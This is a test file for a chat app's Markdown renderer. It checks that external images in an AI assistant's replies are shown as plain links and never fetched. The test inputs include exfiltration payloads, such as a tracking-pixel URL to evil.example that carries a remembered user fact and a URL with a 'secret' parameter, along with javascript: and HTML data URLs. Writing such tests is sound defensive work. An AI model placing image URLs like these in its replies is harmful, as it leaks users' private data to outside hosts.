import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '@/components/markdown';

// A reply is rendered as markdown the moment the conversation opens. An image from another address
// would be fetched right then, and its URL can carry whatever the reply (or memory it quotes) holds:
// only inline data images render; any other image is a link the user may open by hand.

const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

const render = (text: string, citing = false) =>
  renderToStaticMarkup(createElement(Markdown, citing ? { text, messageId: 'm1', onCite: () => {} } : { text }));
const imageSources = (html: string) => [...html.matchAll(/<img\b[^>]*\bsrc="([^"]*)"/gu)].map((m) => m[1]);

describe('images in replies', () => {
  it.each([
    ['the reported case', 'Here you go ![chart](https://other.host/x.png?d=secret)', 'other.host'],
    ['own words: a tracking pixel carrying memory', 'Done.![](https://evil.example/p.gif?fact=I%20live%20in%20Lisbon)', 'evil.example'],
    ['own words: protocol-relative', '![logo](//cdn.example.org/logo.svg)', 'cdn.example.org'],
    ['own words: reference-style', 'See ![diagram][d].\n\n[d]: http://plain.example/d.png', 'plain.example'],
    // The label names the real host, in punycode: a look-alike name cannot pass for another.
    ['own words: Chinese alt text and host', '这是图片：![地图](https://图片.example/地图.png)', 'xn--wcsw84d.example'],
  ])('an external image is not loaded, only linked (%s)', (_, text, host) => {
    for (const citing of [false, true]) {
      const html = render(text, citing);
      expect(imageSources(html)).toEqual([]);
      expect(html).toMatch(
        new RegExp(`<a [^>]*href="(?:https?:)?//[^"]+"[^>]*>Image not loaded: [^<]* \\(${host.replace(/\./gu, '\\.')}\\)</a>`, 'u'),
      );
      expect(html).toContain('rel="noopener noreferrer"');
    }
  });

  it('an image inside a link is named, not loaded and not a link inside the link', () => {
    const html = render('[![badge](https://badges.example/b.svg)](https://example.org/project)');
    expect(imageSources(html)).toEqual([]);
    expect(html.match(/<a\b/gu)).toHaveLength(1);
    expect(html).toContain('Image not loaded: badge (badges.example)');
  });

  it('an inline data image renders as an image', () => {
    for (const citing of [false, true]) expect(imageSources(render(`A dot: ![dot](${PIXEL}) [1]`, citing))).toEqual([PIXEL]);
  });

  it.each([
    ['same-site path', '![x](/api/staff/users/123)', 'this site'],
    ['a data URL that is not an image', '![x](data:text/html;base64,PHNjcmlwdD4=)', 'data:'],
    ['a script URL', '![x](javascript:alert(1))', 'javascript:'],
  ])('other addresses load nothing and link nowhere unsafe (%s)', (_, text, label) => {
    const html = render(text);
    expect(imageSources(html)).toEqual([]);
    expect(html).toContain(`Image not loaded: x (${label})`);
    expect(html).not.toMatch(/href="(?:javascript|data):/u);
  });
});
